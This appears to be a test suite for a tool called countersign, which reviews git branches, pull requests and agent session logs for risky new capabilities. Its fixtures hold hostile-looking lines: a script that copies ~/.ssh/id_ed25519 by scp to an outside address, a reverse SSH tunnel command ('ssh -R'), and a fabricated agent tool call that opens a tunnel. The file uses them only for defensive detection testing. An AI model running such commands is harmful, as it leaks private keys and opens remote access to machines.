import assert from "node:assert/strict";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { countersign, type Ended, git, tunnel, within } from "./command-line.ts";
import { schemaViolations } from "./schemas.ts";

/** A repository whose `main` holds `before`; on branch `work` the files are `after`, committed. */
function repository<T>(before: Record<string, string>, after: Record<string, string>, use: (folder: string) => T): T {
  return within(before, (folder) => {
    git(folder, "init", "-q", "-b", "main");
    git(folder, "add", "-A");
    git(folder, "commit", "-qm", "base", "--allow-empty");
    git(folder, "checkout", "-qb", "work");
    for (const [name, text] of Object.entries(after)) writeFileSync(join(folder, name), text);
    git(folder, "add", "-A");
    git(folder, "commit", "-qm", "work", "--allow-empty");
    return use(folder);
  });
}

function review(cwd: string, ...args: string[]): Ended {
  return countersign(["review", ...args], { cwd });
}

/** The report, which its schema describes. */
// biome-ignore lint/suspicious/noExplicitAny: what a program reads back is plain JSON
function report(cwd: string, ...args: string[]): any {
  const json = JSON.parse(review(cwd, "--format", "json", ...args).stdout);
  assert.deepEqual(schemaViolations("review.json", json), []);
  return json;
}

describe("countersign review", () => {
  it("attends to what a branch brings, and says where it was measured from", () => {
    repository({ "a.sh": "ls\n" }, { "a.sh": `ls\n${tunnel}\n` }, (folder) => {
      const { code, stdout } = review(folder);
      assert.equal(code, 1);
      assert.match(stdout, /^Review\n {2}base {2}main [0-9a-f]{12} {2}main, the default branch/);
      assert.match(stdout, /a\.sh\n {2}2:11 {2}high {2}Opens a reverse tunnel/);
      const { verdict, findings, change, units } = report(folder);
      assert.deepEqual([verdict, findings.map((one: { state: string }) => one.state)], ["attention", ["new"]]);
      assert.deepEqual(change.files, [{ path: "a.sh", status: "modified", added: 1, removed: 0 }]);
      assert.deepEqual([units.length, units[0].added], [1, { start: 1, end: 2 }]);
    });
  });

  it("counts what is new to the package that the file belongs to, also where its manifest did not change", () => {
    const before = { "apps/ä/package.json": "{}", "package.json": "{}", "apps/ä/src/a.sh": "ls\n", "apps/tool.sh": "ls\n" };
    const asks = "curl https://api.example.org/x\n";
    within(before, (folder) => {
      git(folder, "init", "-q", "-b", "main");
      git(folder, "add", "-A");
      git(folder, "commit", "-qm", "base");
      for (const name of ["apps/ä/src/a.sh", "apps/tool.sh"]) writeFileSync(join(folder, name), asks);
      for (const args of [[], ["--head", "HEAD"]]) {
        if (args.length > 0) git(folder, "commit", "-qam", "work");
        const { capabilities } = report(folder, "--base", args.length > 0 ? "HEAD~1" : "HEAD", ...args);
        const asked = capabilities.added.find((one: { kind: string }) => one.kind === "network");
        assert.deepEqual(asked?.folders, ["apps", "apps/ä"]);
      }
    });
  });

  it("fetches a pull request, and reviews it against the branch it is to be merged into, without a checkout", () => {
    repository({ "a.sh": "ls\n" }, { "a.sh": `ls\n${tunnel}\n` }, (origin) => {
      git(origin, "update-ref", "refs/pull/7/head", "work");
      git(origin, "checkout", "-q", "main");
      git(origin, "branch", "-qD", "work");
      within({}, (folder) => {
        git(folder, "clone", "-q", `file://${origin}`, "clone");
        const clone = join(folder, "clone");
        const { code, stdout } = review(clone, "--pr", "#7");
        assert.equal(code, 1);
        assert.match(stdout, /base {2}main [0-9a-f]{12} {2}Where pull request 7 left main, as the remote has it now\./);
        assert.match(stdout, /head {2}pull request 7 [0-9a-f]{12} {2}--pr 7: refs\/pull\/7\/head of origin/);
        assert.match(stdout, /a\.sh\n {2}2:11 {2}high {2}Opens a reverse tunnel/);
        assert.equal(readFileSync(join(clone, "a.sh"), "utf8"), "ls\n");
        const missing = review(clone, "--pr", "8");
        assert.deepEqual([missing.code, missing.stdout], [2, ""]);
        assert.match(missing.stderr, /origin has no pull request 8/);
      });
    });
  });

  it("puts a finding that a changed value brings about under the unit that changed it", () => {
    const script = (key: string): string => `KEY=${key}\nset -e\necho uploading\nscp "$KEY" backup@203.0.113.9:/srv/\n`;
    repository({ "up.sh": script("./testdata/key") }, { "up.sh": script("$HOME/.ssh/id_ed25519") }, (folder) => {
      const { units } = report(folder);
      assert.deepEqual(
        units.map((unit: { added: object; risk: string; findings: { rule: string; state: string }[] }) => [
          unit.added,
          unit.risk,
          unit.findings.find(({ rule }) => rule === "command/secret-to-host")?.state,
        ]),
        [[{ start: 0, end: 1 }, "critical", "new"]],
      );
      assert.match(review(folder).stdout, /To read\n {2}critical {2}up\.sh {2}\+1 −1 +Sends ~\/\.ssh\/id_ed25519 to 203\.0\.113\.9/);
    });
  });

  it("says first what the change can do that it could not do before, with each place", () => {
    const before = { "a.py": "import os\n\n\ndef name():\n    return 1\n" };
    const after = {
      "a.py":
        'import os\nimport subprocess\nimport requests\n\n\ndef name():\n    requests.get("https://api.example.org/x")\n    subprocess.run(["git", "fetch"])\n    return os.environ["DEPLOY_TOKEN"]\n',
    };
    repository(before, after, (folder) => {
      const { stdout } = review(folder);
      assert.match(stdout, /New in this change\n {2}Talks to: api\.example\.org \(a\.py:7\)/);
      assert.match(stdout, /Runs: git \(a\.py:8\)/);
      assert.match(stdout, /Reads from the environment: DEPLOY_TOKEN \(a\.py:9\)/);
      const { capabilities, findings } = report(folder);
      assert.ok(
        capabilities.added.some((one: { kind: string; object?: string }) => one.kind === "environment" && one.object === "DEPLOY_TOKEN"),
      );
      assert.ok(findings.every((one: { category: string }) => one.category !== "capability"));
    });
  });

  it("says who wrote the change by what evidence, and who made its commits", () => {
    repository({ "a.py": "a = 1\n" }, { "a.py": "a = 2\n" }, (folder) => {
      git(folder, "commit", "-q", "--amend", "-m", "work", "-m", "Co-authored-by: Claude <noreply@anthropic.com>");
      const { stdout } = review(folder);
      assert.match(stdout, /an agent wrote all of it, by signs that anybody can write\n {4}Co-authored-by: Claude/);
      const { units, identity } = report(folder);
      assert.deepEqual([units[0].author, units[0].provenance.strength], ["agent", "weak"]);
      assert.ok(identity.some((fact: { kind: string }) => fact.kind === "unsigned"));
    });
  });

  it("folds what asks for little, and names what asks for more", () => {
    const before: Record<string, string> = { "run.py": "def f(x):\n    return x\n" };
    const after: Record<string, string> = { "run.py": "def f(x):\n    return x + 1\n" };
    for (let at = 0; at < 8; at++) {
      before[`doc${at}.md`] = "# A\n";
      after[`doc${at}.md`] = "# B\n";
    }
    repository(before, after, (folder) => {
      assert.match(review(folder).stdout, /To read\n {2}medium {4}run\.py {2}\+1 −1 +source\n {2}and 8 files more: 8 documentation\n/);
    });
  });

  it("passes a change that brings nothing, whatever was there before", () => {
    repository({ "a.sh": `${tunnel}\n` }, { "a.sh": `${tunnel}\nls\n` }, (folder) => {
      const { code, stdout } = review(folder);
      assert.equal(code, 0, stdout);
      assert.match(stdout, /Already there before this change {2}1 finding\n {2}a\.sh:1:11 {2}high/);
      assert.deepEqual(report(folder, "--only-new").findings, []);
    });
  });

  it("says how long the change takes to read, and is short about a typo", () => {
    repository({ "a.sh": "# teh list\nls\n" }, { "a.sh": "# the list\nls\n" }, (folder) => {
      const { stdout } = review(folder);
      assert.match(stdout, /1 line added, 1 removed\n {2}about 1 minute of reading\n/);
      assert.ok(stdout.trimEnd().split("\n").length <= 15, stdout);
      assert.deepEqual(report(folder).change.reading, { lines: 2, minutes: 1, sittings: 1 });
    });
  });

  it("lists what a change takes away", () => {
    repository({ "a.sh": `${tunnel}\n` }, { "a.sh": "ls\n" }, (folder) => {
      const { code, stdout } = review(folder);
      assert.equal(code, 0);
      assert.match(stdout, /No longer there after this change {2}1 finding\n {2}a\.sh:1:11/);
    });
  });

  it("cannot tell where a changed script could not be parsed", () => {
    repository({}, { "a.sh": "if true; then (((\n" }, (folder) => {
      const { code, stdout } = review(folder);
      assert.equal(code, 2);
      assert.match(stdout, /UNKNOWN/);
      assert.match(stdout, /a\.sh:1:\d+ {2}unparsed/);
    });
  });

  it("takes the working tree along where it differs, and leaves it out where commits are named", () => {
    repository({ "a.sh": "ls\n" }, {}, (folder) => {
      writeFileSync(join(folder, "new.sh"), tunnel);
      const { code, stdout } = review(folder);
      assert.equal(code, 1);
      assert.match(stdout, /head {2}working tree {2}The working tree: one file in it differs/);
      assert.equal(review(folder, "--head", "work").code, 0);
      assert.equal(review(folder, "--path", "a.sh").code, 0);
    });
  });

  it("does not let a change acquit itself with a comment", () => {
    const ignored = `# countersign-ignore command/reverse-ssh-tunnel -- trust me\n${tunnel}\n`;
    repository({ "a.sh": "ls\n" }, { "a.sh": ignored }, (folder) => {
      const { code, stdout } = review(folder);
      assert.equal(code, 1);
      assert.match(stdout, /Ignored by a comment\n[\s\S]*“trust me” \(a\.sh:1\)\. The comment is new in this change/);
      assert.match(stdout, /ATTENTION {2}1 finding needs a person/);
      const { suppressed } = report(folder);
      assert.deepEqual([suppressed.length, suppressed[0].isNew], [1, true]);
    });
    repository({ "a.sh": ignored }, { "a.sh": `${ignored}ls\n` }, (folder) => {
      const { code, stdout } = review(folder);
      assert.equal(code, 0, stdout);
      assert.match(stdout, /“trust me” \(a\.sh:1\)\n/);
    });
  });

  it("says what is wrong where there is no repository, no such base, no such head", () => {
    within({}, (folder) => {
      const { code, stderr } = review(folder);
      assert.equal(code, 2);
      assert.match(stderr, /is not inside a git repository[\s\S]*\n {2}.*--cwd/);
    });
    repository({}, {}, (folder) => {
      for (const flag of ["--base", "--head"]) {
        const { code, stderr } = review(folder, flag, "nope");
        assert.equal(code, 2);
        assert.match(stderr, new RegExp(`no branch, tag or commit named nope in this repository\\.\\n {2}.*${flag}`));
      }
    });
  });

  it("says that there is nothing to compare in a repository without commits", () => {
    within({ "a.sh": tunnel }, (folder) => {
      git(folder, "init", "-q");
      assert.equal(review(folder).code, 1);
    });
  });

  it("writes sarif in which only what is new is new", () => {
    repository({ "old.sh": `${tunnel}\n` }, { "old.sh": `${tunnel}\nls\n`, "new.sh": "ssh -R 1:a:2 h\n" }, (folder) => {
      const { runs } = JSON.parse(review(folder, "--format", "sarif").stdout);
      const states = runs[0].results.map(
        (result: { baselineState: string; locations: { physicalLocation: { artifactLocation: object } }[] }) => [
          result.baselineState,
          result.locations[0]?.physicalLocation.artifactLocation,
        ],
      );
      assert.deepEqual(states, [
        ["new", { uri: "new.sh", uriBaseId: "%SRCROOT%" }],
        ["unchanged", { uri: "old.sh", uriBaseId: "%SRCROOT%" }],
      ]);
    });
  });

  it("audits the session of the agent beside its change", () => {
    repository({}, {}, (folder) => {
      const call = { type: "tool_use", id: "t1", name: "Bash", input: { command: tunnel } };
      const line = {
        type: "assistant",
        uuid: "u1",
        parentUuid: null,
        sessionId: "s1",
        timestamp: "2026-01-02T03:04:05.000Z",
        cwd: folder,
        version: "2.0.0",
        message: { role: "assistant", model: "m", content: [call] },
      };
      writeFileSync(join(folder, ".git", "session.jsonl"), `${JSON.stringify(line)}\n`);
      const { code, stdout } = review(folder, "--session", ".git/session.jsonl");
      assert.equal(code, 1);
      assert.match(stdout, /1 action of the agent: 1 asked for with no record of running\n/);
      assert.match(stdout, /line 1 {2}high {2}asked for, with no record that it ran: Opens a reverse tunnel/);
      assert.doesNotMatch(stdout, /executed/);
      assert.equal(report(folder, "--session", ".git/session.jsonl").actions.length, 1);
    });
  });

  it("names a session that is not there, and reviews the change all the same", () => {
    repository({}, { "a.sh": tunnel }, (folder) => {
      const { code, stdout } = review(folder, "--session", "gone.jsonl");
      assert.equal(code, 1);
      assert.match(stdout, /a\.sh\n {2}1:11/);
      assert.match(stdout, /blocking {2}This file could not be read: no such file or folder[\s\S]*gone\.jsonl {2}unreadable/);
      assert.match(review(folder, "--session", "latest").stdout, /a\.sh\n {2}1:11[\s\S]*blocking {2}No session of Claude Code/);
    });
  });

  it("takes --path from the folder the user is in, and does not pass a path that is not there", () => {
    repository({ "a.sh": "ls\n" }, { "a.sh": `ls\n${tunnel}\n` }, (folder) => {
      mkdirSync(join(folder, "sub"));
      writeFileSync(join(folder, "sub", "b.sh"), `${tunnel}\n`);
      const sub = join(folder, "sub");
      const found = (...args: string[]): string[] => report(sub, ...args).findings.map((finding: { path: string }) => finding.path);
      assert.deepEqual(found("--path", "b.sh"), ["sub/b.sh"]);
      assert.deepEqual(found("--path", "../a.sh"), ["a.sh"]);
      assert.deepEqual(found("--path", "."), ["sub/b.sh"]);
      const { verdict, problems } = report(sub, "--path", "a.sh");
      assert.equal(verdict, "unknown");
      assert.deepEqual(
        problems.map(({ code, path }: { code: string; path: string }) => [code, path]),
        [["no-such-path", "sub/a.sh"]],
      );
      const outside = review(sub, "--path", "../../a.sh");
      assert.equal(outside.code, 2);
      assert.match(outside.stderr, /outside of the repository/);
    });
  });

  it("passes a path that is there and did not change", () => {
    repository({ "a.sh": "ls\n", "b.sh": "ls\n" }, { "a.sh": `ls\n${tunnel}\n` }, (folder) => {
      assert.equal(review(folder, "--path", "b.sh").code, 0);
    });
  });

  it("cannot tell of a script that Git LFS keeps, and only notes it of other files", () => {
    const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${"0123456789abcdef".repeat(4)}\nsize 39\n`;
    repository({}, { "a.sh": pointer, "model.bin": pointer }, (folder) => {
      const { verdict, problems } = report(folder);
      assert.equal(verdict, "unknown");
      const told = problems.filter(({ code }: { code: string }) => code === "large-file");
      assert.deepEqual(
        told.map(({ path, weight }: { path: string; weight: string }) => [path, weight]),
        [
          ["a.sh", "blocking"],
          ["model.bin", "note"],
        ],
      );
    });
  });
});
